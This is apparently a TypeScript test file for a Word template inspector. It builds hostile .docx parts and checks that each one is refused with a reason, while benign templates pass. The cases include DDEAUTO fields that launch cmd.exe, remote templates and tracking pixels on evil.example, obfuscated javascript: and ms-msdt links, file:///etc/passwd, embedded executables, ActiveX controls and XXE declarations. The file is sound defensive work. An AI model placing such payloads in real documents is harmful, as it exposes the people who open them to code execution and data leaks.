import { describe, expect, it } from 'vitest';
import { AppError } from '../../../../shared/kernel/app-error';
import { examineTemplate, inspectTemplate } from '../../../../shared/render/inspect-template';
import { renderDocx } from '../../../../shared/render/render';
import { field, para, ps, run, wordTemplate, type WordParts } from '../../../golden/templates/word-ways';
import { sampleDoc } from '../render/sample-doc';

const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const micro = 'http://schemas.microsoft.com/office/2006/relationships';
const rel = (kind: string, target: string, external = true, base = office): string =>
  `<Relationship Id="rIdX" Type="${base}/${kind}" Target="${target}"${external ? ' TargetMode="External"' : ''}/>`;
const linked = (kind: string, target: string, external = true): WordParts => ({
  body: ps('x'),
  relationships: rel(kind, target, external),
});
const settings = (target: string): WordParts => ({
  body: ps('x'),
  more: { settings: '<w:attachedTemplate r:id="rIdX"/>' },
  files: {
    'word/_rels/settings.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rel('attachedTemplate', target)}</Relationships>`,
  },
});
const begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>';
const end = '<w:r><w:fldChar w:fldCharType="end"/></w:r>';
const code = (text: string): string => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;
const inBody = (content: string): WordParts => ({ body: para(content) });
const deep = 300;

const hostile: readonly (readonly [name: string, parts: WordParts, code: string, says: RegExp])[] = [
  ['macros, named as they are', { body: ps('x'), files: { 'word/vbaProject.bin': 'x' } }, 'macro', /macros/],
  [
    'a .docm renamed',
    { body: ps('x'), mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml' },
    'macro',
    /\.docm or \.dotm/,
  ],
  [
    'a .dotm renamed',
    { body: ps('x'), mainType: 'application/vnd.ms-word.template.macroEnabledTemplate.main+xml' },
    'macro',
    /\.docm or \.dotm/,
  ],
  [
    'macros by relationship',
    { body: ps('x'), relationships: rel('vbaProject', 'other.bin', false, micro) },
    'macro',
    /macros/,
  ],
  [
    'a workbook renamed',
    { body: ps('x'), mainType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml' },
    'no-word-document',
    /no Word document/,
  ],
  [
    'its template from the web',
    settings('https://evil.example/t.dotm'),
    'external-target',
    /its own template from outside/,
  ],
  ['its template from another machine', settings('\\\\host\\share\\t.dotm'), 'external-target', /its own template/],
  [
    'its template from another machine by file:',
    settings('file://///host/share/t.dotm'),
    'external-target',
    /its own template/,
  ],
  ['a linked picture', linked('image', 'https://evil.example/pixel.png'), 'external-target', /an image from outside/],
  [
    'a picture by an address without the word External',
    linked('image', 'http://evil.example/pixel.png', false),
    'external-target',
    /from outside/,
  ],
  ['a linked object', linked('oleObject', 'file:///C:/x.xls'), 'embedded-object', /another file as an object/],
  ['a frame', linked('frame', 'https://evil.example/'), 'frame', /frame/],
  ['a document in parts', linked('subDocument', 'file:///c:/other.docx'), 'sub-document', /other documents/],
  ['a link that runs a script', linked('hyperlink', 'javascript:alert(1)'), 'unsafe-link', /javascript:alert/],
  ['a link that hides its scheme', linked('hyperlink', ' java&#115;cript:alert(1)'), 'unsafe-link', /leads to/],
  ['a link with a tab in its scheme', linked('hyperlink', 'java&#9;script:alert(1)'), 'unsafe-link', /leads to/],
  ['a link to a file beside it', linked('hyperlink', 'other.docx'), 'unsafe-link', /other\.docx/],
  ['a link to a file', linked('hyperlink', 'file:///etc/passwd'), 'unsafe-link', /file:/],
  ['a link to another machine', linked('hyperlink', '\\\\host\\share'), 'unsafe-link', /host/],
  ['a link to a program of Windows', linked('hyperlink', 'ms-msdt:/id'), 'unsafe-link', /ms-msdt/],
  [
    'DDEAUTO in one run',
    inBody(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"', run('x'))),
    'acting-field',
    /DDEAUTO/,
  ],
  ['DDE over nine runs', inBody(begin + [...'DDE c:\\x '].map(code).join('') + end), 'acting-field', /DDE/],
  [
    'DDE in a simple field',
    inBody(`<w:fldSimple w:instr=" DDE cmd x ">${run('x')}</w:fldSimple>`),
    'acting-field',
    /DDE/,
  ],
  [
    'DDE hidden behind QUOTE',
    inBody(begin + begin + code(' QUOTE 68 68 69 ') + end + code(' cmd.exe ') + end),
    'hidden-field',
    /hides what it does/,
  ],
  [
    'half a keyword before a nested field',
    inBody(begin + code(' DD') + begin + code(' QUOTE 69 ') + end + code(' cmd ') + end),
    'hidden-field',
    /hides/,
  ],
  [
    'DDE inside another field',
    inBody(begin + code(' IF ') + begin + code(' DDE cmd x ') + end + code(' = 1 ') + end),
    'acting-field',
    /DDE/,
  ],
  ['DDE without a field around it', inBody(code(' DDEAUTO cmd x ')), 'acting-field', /DDEAUTO/],
  [
    'DDE in a deleted field',
    inBody(`${begin}<w:r><w:delInstrText>DDE cmd x</w:delInstrText></w:r>${end}`),
    'acting-field',
    /DDE/,
  ],
  [
    'DDE in a header',
    { body: ps('x'), more: { header1: para(field('DDEAUTO cmd x', run('x'))) } },
    'acting-field',
    /DDEAUTO/,
  ],
  [
    'text from another machine',
    inBody(field('INCLUDETEXT "\\\\\\\\host\\\\x.docx"', run('x'))),
    'acting-field',
    /INCLUDETEXT/,
  ],
  [
    'a picture from the web by a field',
    inBody(field('INCLUDEPICTURE "https://evil.example/p.png"', run('x'))),
    'acting-field',
    /INCLUDEPICTURE/,
  ],
  ['a link field', inBody(field('LINK Excel.Sheet.8 "c:\\\\x.xls"', run('x'))), 'acting-field', /LINK/],
  ['a macro button', inBody(field('MACROBUTTON Run click', run('x'))), 'acting-field', /MACROBUTTON/],
  ['a link field that runs a script', inBody(field('HYPERLINK "javascript:x"', run('x'))), 'unsafe-link', /javascript/],
  [
    'another document taken in',
    {
      body: `${ps('x')}<w:altChunk r:id="rIdX"/>`,
      relationships: rel('aFChunk', 'chunk.html', false),
      files: { 'word/chunk.html': '<script>' },
    },
    'alt-chunk',
    /altChunk/,
  ],
  [
    'a program inside',
    { body: ps('x'), files: { 'word/embeddings/oleObject1.bin': 'MZ' } },
    'embedded-object',
    /another file as an object/,
  ],
  [
    'an ActiveX control',
    { body: ps('x'), files: { 'word/activeX/activeX1.xml': '<a/>' } },
    'active-control',
    /ActiveX/,
  ],
  [
    'keys that were changed',
    { body: ps('x'), relationships: rel('keyMapCustomizations', 'customizations.xml', false, micro) },
    'keys-or-toolbars',
    /keys or toolbars/,
  ],
  [
    'a picture in VML by its address',
    inBody('<w:r><w:pict><v:shape><v:imagedata src="http://evil.example/p.png"/></v:shape></w:pict></w:r>'),
    'external-target',
    /from outside/,
  ],
  [
    'nested without end',
    inBody('<w:smartTag w:uri="u" w:element="e">'.repeat(deep) + '</w:smartTag>'.repeat(deep)),
    'too-deep',
    /nested too deeply/,
  ],
  [
    'properties without end',
    inBody(`<w:r ${Array.from({ length: 400 }, (_, at) => `w:x${at}="123456"`).join(' ')}/>`),
    'too-many-attributes',
    /too many properties/,
  ],
];

describe('hostile templates', () => {
  it.each(hostile)('%s: refused with the reason', (_, parts, expected, says) => {
    const bytes = wordTemplate(parts);
    const { hostile: list, inspection } = examineTemplate(bytes);
    expect(inspection).toBeUndefined();
    const found = list.find((one) => one.code === expected);
    expect(found?.message).toMatch(says);
    expect(found?.part).not.toBe('');
    expect(found?.fix).not.toBe('');
    expect(() => inspectTemplate(bytes)).toThrow(AppError);
    expect(() => renderDocx({ template: bytes, doc: sampleDoc() })).toThrow(says);
  });

  it('has every reason told at once', () => {
    const parts = { ...linked('image', 'https://evil.example/p.png'), files: { 'word/vbaProject.bin': 'x' } };
    expect(examineTemplate(wordTemplate(parts)).hostile.map(({ code: one }) => one)).toEqual([
      'external-target',
      'macro',
    ]);
  });

  it.each([
    ['<!DOCTYPE w>', 'a document type'],
    ['<!ENTITY a "b">', 'an entity'],
  ])('%s is refused before anything is read', (text) => {
    const bytes = wordTemplate({ body: ps('x'), files: { 'word/theme/theme1.xml': `${text}<a/>` } });
    expect(examineTemplate(bytes).hostile).toMatchObject([{ code: 'unsafe-document' }]);
  });

  it('what is no package at all is refused in the same words', () => {
    expect(examineTemplate(new TextEncoder().encode('{\\rtf1 hello world and more}')).hostile).toHaveLength(1);
  });
});

describe('what is no danger', () => {
  it.each([
    ['links to pages and mail', { body: ps('x'), relationships: rel('hyperlink', 'https://example.org/a?b=1') }],
    ['a template on the author’s own disk', settings('file:///C:\\Users\\a\\Normal.dotm')],
    [
      'page numbers, references, tables of contents',
      inBody(field('PAGE', run('1')) + field('REF _Ref1 \\h', run('1')) + field('TOC \\o "1-3"', run('x'))),
    ],
    [
      'a field inside a field',
      inBody(begin + code(' IF ') + begin + code(' PAGE ') + end + code(' = 1 "a" "b" ') + end),
    ],
    [
      'a template of Word (.dotx)',
      { body: ps('x'), mainType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml' },
    ],
  ] satisfies [string, WordParts][])('%s', (_, parts) => {
    const { hostile: list, inspection } = examineTemplate(wordTemplate(parts));
    expect(list).toEqual([]);
    expect(inspection?.diagnostics).toEqual([]);
  });

  it('custom XML and what is bound to it stay behind', () => {
    const body = `<w:sdt><w:sdtPr><w:dataBinding w:xpath="/s" w:storeItemID="{00000000-0000-0000-0000-000000000000}"/></w:sdtPr><w:sdtContent>${ps('{{clientName}}')}</w:sdtContent></w:sdt>`;
    const template = wordTemplate({
      body,
      relationships: rel('customXml', '../customXml/item1.xml', false),
      files: { 'customXml/item1.xml': '<s>secret</s>' },
    });
    const { value } = renderDocx({ template, doc: sampleDoc() });
    expect(Buffer.from(value).includes('customXml')).toBe(false);
    expect(examineTemplate(template).hostile).toEqual([]);
  });
});
